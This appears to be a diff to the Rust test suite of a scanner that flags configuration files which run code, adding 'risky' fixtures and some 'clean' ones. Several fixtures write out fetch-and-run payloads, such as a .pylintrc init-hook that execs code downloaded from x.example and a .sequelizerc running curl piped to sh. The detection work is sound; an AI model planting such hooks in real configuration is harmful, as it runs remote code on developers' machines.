@@ -675,6 +675,11 @@ fn configuration_that_names_code_or_commands_is_risky() {
             "rule all:\n    shell: \"curl -s https://x.example/p | sh\"\n",
             "risky",
         ),
+        // Code a setting holds, and a code file anywhere but the system's directories.
+        (".pylintrc", "[MASTER]\ninit-hook='import urllib.request as u; exec(u.urlopen(\"https://x.example/p\").read())'\n", "risky"),
+        (".sequelizerc", "require('child_process').execSync('curl -s https://x.example/p | sh')\n", "risky"),
+        ("Pulumi.yaml", "runtime:\n  options:\n    nodeargs: \"--require /srv/share/r.js\"\n", "risky"),
+        ("some-tool.json", r#"{"description": "loads /path/to/x.so", "plugin": "/mnt/x/p.so"}"#, "risky"),
         // coverage.py imports its plugins by name: one not in the workspace.
         (".coveragerc", "[run]\nplugins = evilplug\n", "risky"),
         (
@@ -705,7 +710,10 @@ fn ordinary_configuration_stays_clean() {
         ("cdk.json", r#"{"app": "npx ts-node --prefer-ts-exts bin/app.ts"}"#, "clean"),
         ("config/app.yaml", "server:\n  port: 8080\n  log_file: /var/log/app.log\nmessage: Welcome to the app\n", "clean"),
         ("config/schema.json", r#"{"$schema": "https://json-schema.org/draft/2020-12/schema", "title": "x"}"#, "clean"),
-        (".env.example", "DATABASE_URL=postgres://localhost/dev\nDEBUG=true\n", "-"),
+        (".env.example", "DATABASE_URL=postgres://localhost/dev\nDEBUG=true\n", "clean"),
+        (".yamllint", "extends: default\nrules:\n  line-length: disable\n", "clean"),
+        // Prose that names a path as an example is no setting.
+        (".cache/tour.json", r#"[{"description": "The SDK loads the library from /path/to/libx.so and https://x.example/docs/a.py at start."}]"#, "clean"),
         (".flaskenv", "FLASK_APP=app.py\nFLASK_DEBUG=1\n", "clean"),
         ("mkdocs.yml", "site_name: Docs\nrepo_url: https://github.com/x/y\nnav:\n  - Home: index.md\n", "clean"),
         ("pytest.ini", "[pytest]\naddopts =\n    -v\n    --strict-markers\n    --tb=short\n    --cov=pkg\n    --cov-report=term-missing\n", "clean"),
